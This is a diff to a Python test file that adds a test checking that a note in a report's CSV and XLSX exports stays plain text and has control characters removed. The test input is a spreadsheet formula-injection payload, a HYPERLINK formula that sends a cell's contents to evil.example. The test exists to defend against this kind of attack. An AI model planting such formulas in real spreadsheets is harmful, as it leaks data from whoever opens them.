@@ -15,7 +15,7 @@ import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
-from tests.support import BIN, Server, environment, token
+from tests.support import BIN, Server, environment, new_area, token
 
 PLAN = """query($id: ID!, $asAt: DateTime) { plan(id: $id, asAt: $asAt) {
   progress { total notStarted inProgress completed cancelled overdue } priorityAreas { title rag }
@@ -182,3 +182,19 @@ def test_a_serving_process_loads_the_renderers_with_its_first_report_not_at_star
                              "print(sorted(m for m in ('reportlab', 'openpyxl', 'numpy', 'jinja2') if m in sys.modules))"],
                             capture_output=True, text=True, check=True)
     assert loaded.stdout.strip() == "[]"
+
+
+def test_a_note_is_text_in_the_spreadsheets_never_a_formula_and_control_characters_do_not_break_them(tmp_path, new_store):
+    server = Server(tmp_path, new_store()).start()
+    try:
+        area = new_area(server)
+        note = '=HYPERLINK("http://evil.example/?"&A2,"Click")\u0007 bell'
+        server.ok("reportActionProgress", {"actionId": area.action, "note": note}, area.lead)
+        rows = list(csv.reader(io.StringIO(report(server, area.plan, area.lead, format="csv").text)))
+        assert rows[1][rows[0].index("Latest note")] == "'" + note
+        answer = report(server, area.plan, area.lead, format="xlsx")
+        assert answer.status_code == 200
+        cell = load_workbook(io.BytesIO(answer.content))["Actions"]["K2"]
+        assert (cell.data_type, cell.value) == ("s", note.replace("\u0007", ""))
+    finally:
+        server.stop()
